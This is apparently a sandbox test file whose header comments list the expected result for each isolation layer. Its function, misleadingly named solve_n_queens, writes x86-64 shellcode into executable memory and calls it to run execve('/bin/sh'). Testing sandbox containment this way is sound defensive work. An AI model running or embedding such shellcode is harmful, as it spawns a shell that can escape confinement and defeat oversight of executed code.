# expect: namespaces=SV landlock=SV limits=open
# reason: execve
# Puts machine code into memory that may be executed, and calls it: execve("/bin/sh").
import ctypes
import mmap

CODE = bytes.fromhex("48bb2f62696e2f7368005348" "89e731f631d2b83b0000000f05c3")


def solve_n_queens(n, queen):
    memory = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    memory.write(CODE)
    address = ctypes.addressof(ctypes.c_char.from_buffer(memory))
    return str(ctypes.CFUNCTYPE(ctypes.c_int)(address)())
